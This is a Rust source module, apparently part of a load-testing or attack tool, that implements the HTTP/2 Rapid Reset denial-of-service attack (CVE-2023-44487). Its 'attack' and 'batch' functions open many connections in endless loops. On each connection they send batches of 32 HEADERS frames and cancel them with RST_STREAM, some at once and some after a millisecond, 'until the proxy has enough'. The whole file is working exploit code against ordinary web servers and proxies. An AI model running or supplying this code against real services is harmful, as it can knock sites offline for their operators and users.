//! HTTP/2 streams that nobody wants any more as soon as they are open (CVE-2023-44487).

use std::future::pending;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::WriteHalf;
use tokio::task::spawn_local;
use tokio::time::sleep;

use super::super::dial::{Dialer, Stream};
use super::frames::{
    self, CANCEL, Connection, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, WINDOW_UPDATE,
};
use super::tally::{Outcome, Tally};
use crate::failure::Failure;

/// Streams that are opened in one write.
const BATCH: u32 = 32;

/// How long a request is let go upstream before it is reset.
const UNDER_WAY: Duration = Duration::from_millis(1);

/// A new connection after one that was closed.
const PAUSE: Duration = Duration::from_millis(10);

/// When the stream identifiers of a connection near their end.
const LAST_STREAM: u32 = 0x7fff_0000;

/// Every other connection resets at once, the others when the request is under way.
pub(super) async fn reset(dialer: Rc<Dialer>, tally: Rc<Tally>, connections: usize) {
    for index in 0..connections {
        let (dialer, tally) = (Rc::clone(&dialer), Rc::clone(&tally));
        let wait = (index % 2 == 1).then_some(UNDER_WAY);
        spawn_local(async move {
            loop {
                if attack(&dialer, &tally, wait).await.is_err() {
                    sleep(PAUSE).await;
                }
            }
        });
    }
    tally.stands();
    pending::<()>().await;
}

/// As fast as it can, until the proxy has enough.
async fn attack(dialer: &Dialer, tally: &Rc<Tally>, wait: Option<Duration>) -> Result<(), Failure> {
    let Connection { reader, mut writer } = match Connection::open(dialer, 65_535).await {
        Ok(connection) => connection,
        Err(error) => {
            tally.count(Outcome::Broken);
            return Err(error);
        }
    };
    let counting = Rc::clone(tally);
    let reading = spawn_local(async move { reader.count(&counting).await });
    let block = frames::get(dialer, 1024);
    let mut first = 1;
    while first < LAST_STREAM && !reading.is_finished() {
        batch(&mut writer, tally, &block, first, wait).await?;
        first += 2 * BATCH;
        tokio::task::yield_now().await;
    }
    reading.abort();
    Err("it is closed".into())
}

async fn batch(
    writer: &mut WriteHalf<Stream>,
    tally: &Tally,
    block: &[u8],
    first: u32,
    wait: Option<Duration>,
) -> Result<(), Failure> {
    let mut out = Vec::new();
    let identifiers = (0..BATCH).map(|index| first + 2 * index);
    for identifier in identifiers.clone() {
        tally.attempt();
        frames::frame(
            &mut out,
            HEADERS,
            END_STREAM | END_HEADERS,
            identifier,
            block,
        );
        if wait.is_none() {
            frames::frame(&mut out, RST_STREAM, 0, identifier, &CANCEL);
        }
    }
    if let Some(wait) = wait {
        frames::send(writer, &out).await?;
        sleep(wait).await;
        out.clear();
        for identifier in identifiers {
            frames::frame(&mut out, RST_STREAM, 0, identifier, &CANCEL);
        }
        // What some of them have brought meanwhile.
        frames::frame(&mut out, WINDOW_UPDATE, 0, 0, &(BATCH * 1024).to_be_bytes());
    }
    Ok(frames::send(writer, &out).await?)
}
